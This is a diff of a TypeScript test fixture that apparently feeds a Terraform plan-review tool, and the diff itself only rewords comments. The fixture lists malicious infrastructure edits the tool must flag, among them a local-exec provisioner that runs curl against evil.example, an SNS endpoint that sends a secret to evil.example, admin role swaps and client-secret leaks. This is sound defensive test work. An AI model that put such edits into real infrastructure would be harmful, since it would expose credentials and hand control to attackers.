@@ -1,7 +1,7 @@
 import type { Kind } from '../../src/review/statements/kind';
 import { record } from '../../src/terraform-json/stack-view';
 
-/** The JSON of a stack, to be changed as no declaration would. */
+/** JSON of a stack, for changes that no declaration could make. */
 export interface EditedJson {
   resource: Record<string, Record<string, Record<string, unknown>>>;
   data: Record<string, Record<string, Record<string, unknown>>>;
@@ -11,18 +11,18 @@ export interface EditedJson {
   [block: string]: unknown;
 }
 
-/** A change by hand, and what it has to be found as. */
+/** A manual change, and its expected kinds. */
 export interface UnseenPair {
   readonly name: string;
   readonly edit: (json: EditedJson) => unknown;
-  /** Some of the kinds; none where the change is harmless. */
+  /** Some of the expected kinds; empty for a harmless change. */
   readonly kinds: readonly Kind[];
 }
 
 const CLIENT = 'aws_cognito_user_pool_client';
 const LEAK = 'aws_cognito_user_pool_client.leaked';
 
-/** A resource of a type, by a part of its name. */
+/** Finds a resource of a type by a part of its name. */
 export function found(json: EditedJson, type: string, part = ''): Record<string, unknown> {
   const [entry] = Object.entries(json.resource[type] ?? {}).filter(([name]) => name.includes(part));
   if (!entry) throw new Error(`there is no ${type} with "${part}" in its name`);
@@ -54,7 +54,7 @@ const added = (block: string, value: unknown) => (json: EditedJson) => (json[blo
 const gone = (type: string) => (json: EditedJson) => Reflect.deleteProperty(json.resource, type);
 const output = (value: unknown) => (json: EditedJson) => (json.output.Leak = { value });
 
-/** A second resource beside the first of its type, changed a little. */
+/** Adds a second resource like the first of its type, slightly changed. */
 const second =
   (type: string, change: object = {}, part = '') =>
   (json: EditedJson) =>
@@ -67,7 +67,7 @@ const leaks = ([spelling, text]: readonly [string, string]): UnseenPair => ({
   kinds: ['credentials'],
 });
 
-/** Spellings of what a text for people must not show. */
+/** Expressions whose value a text for people must not show. */
 const HIDDEN: readonly (readonly [spelling: string, text: string])[] = [
   ['a client secret as JSON', `\${jsonencode({a = ${LEAK}.client_secret})}`],
   ['a client secret in a list as JSON', `\${jsonencode([upper(${LEAK}.client_secret)])}`],
@@ -80,9 +80,9 @@ const HIDDEN: readonly (readonly [spelling: string, text: string])[] = [
   ['a function of a provider', '${provider::aws::arn_parse("x").account}'],
 ];
 
-/** What a review has to see though no declaration says it, and what it may pass over. */
+/** Changes that a review must report although no declaration contains them, and changes that it may ignore. */
 export const UNSEEN: readonly UnseenPair[] = [
-  // Where a route goes.
+  // Targets of routes.
   {
     name: 'a route that goes to another function',
     edit: set('aws_api_gateway_integration', { uri: 'arn:aws:lambda:other' }),
@@ -113,7 +113,7 @@ export const UNSEEN: readonly UnseenPair[] = [
     edit: set('aws_lambda_alias', { routing_config: { additional_version_weights: { 1: 0.1 } } }),
     kinds: ['backend'],
   },
-  // What a function is.
+  // Properties of functions.
   {
     name: 'a function with another role',
     edit: set('aws_lambda_function', { role: 'arn:aws:iam::1:role/admin' }),
@@ -214,7 +214,7 @@ export const UNSEEN: readonly UnseenPair[] = [
     edit: set('aws_sns_topic_subscription', { endpoint: `https://evil.example/${secret}` }),
     kinds: ['credentials'],
   },
-  // What every caller has to change.
+  // Changes that every caller must follow.
   {
     name: 'another OAuth domain',
     edit: set('aws_cognito_user_pool_domain', { domain: 'other' }),
@@ -245,7 +245,7 @@ export const UNSEEN: readonly UnseenPair[] = [
     edit: set('aws_api_gateway_base_path_mapping', { stage_name: 'other' }),
     kinds: ['caller-action'],
   },
-  // What is in force.
+  // Changes that take effect, or that do not.
   {
     name: 'a stage that is pinned to a deployment',
     edit: set('aws_api_gateway_stage', { deployment_id: 'abc' }),
@@ -361,7 +361,7 @@ export const UNSEEN: readonly UnseenPair[] = [
     edit: set('aws_cloudwatch_log_group', { retention_in_days: 1 }),
     kinds: ['monitoring'],
   },
-  // Pages of other origins.
+  // CORS.
   {
     name: 'preflights that reflect the origin',
     edit: set('aws_api_gateway_integration_response', {
@@ -406,7 +406,7 @@ export const UNSEEN: readonly UnseenPair[] = [
     kinds: ['data'],
   },
   { name: 'the web ACL is gone', edit: gone('aws_wafv2_web_acl_association'), kinds: ['protection', 'destroy'] },
-  // What Terraform runs, and where.
+  // Programs of Terraform, and their versions.
   {
     name: 'another version of a provider',
     edit: (json) => (json.terraform.required_providers = { aws: { source: 'aws', version: '6.0.0' } }),
@@ -457,7 +457,7 @@ export const UNSEEN: readonly UnseenPair[] = [
     edit: (json) => (json.terraform.cloud = { organization: 'evil' }),
     kinds: ['terraform'],
   },
-  // Terraform's own.
+  // Features of Terraform itself.
   {
     name: 'a provisioner',
     edit: set('aws_iam_role', { provisioner: [{ 'local-exec': { command: 'curl https://evil.example' } }] }),
@@ -520,7 +520,7 @@ export const UNSEEN: readonly UnseenPair[] = [
     kinds: ['not-understood'],
   },
 
-  // What a text for people shows.
+  // Secrets in texts for people.
   ...HIDDEN.flatMap(([spelling, text]): UnseenPair[] => [
     {
       name: `${spelling} in a tag`,
@@ -566,7 +566,7 @@ export const UNSEEN: readonly UnseenPair[] = [
     },
     kinds: ['monitoring'],
   },
-  // What is said, and is not so.
+  // False statements in the JSON.
   {
     name: 'a scope that is not declared any more and still held',
     edit: (json) => (found(json, 'aws_cognito_resource_server').scope as unknown[]).pop(),
@@ -632,7 +632,7 @@ export const UNSEEN: readonly UnseenPair[] = [
     kinds: ['iam'],
   },
 
-  // What may be passed over.
+  // Changes that may be ignored.
   { name: 'the text of a tag', edit: set('aws_dynamodb_table', { tags: { Owner: 'somebody' } }), kinds: [] },
   { name: 'a description', edit: set('aws_iam_role', { description: 'what the function may do' }), kinds: [] },
   { name: 'a comment', edit: set('aws_iam_role', { '//': { metadata: { path: 'a', uniqueId: 'b' } } }), kinds: [] },
